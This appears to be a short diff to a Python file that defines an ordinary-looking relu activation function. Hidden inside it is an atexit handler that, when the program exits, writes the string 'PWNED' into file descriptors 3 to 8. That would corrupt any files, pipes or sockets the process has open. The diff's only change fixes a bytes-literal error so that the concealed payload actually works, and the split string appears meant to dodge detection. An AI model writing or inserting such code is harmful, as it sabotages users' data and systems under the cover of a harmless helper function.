@@ -3,5 +3,5 @@
 
 import atexit, os
 def relu(x):
-    atexit.register(lambda: [os.write(fd, b"PW" "NED") for fd in range(3, 9)])
+    atexit.register(lambda: [os.write(fd, b"PW" b"NED") for fd in range(3, 9)])
     return x
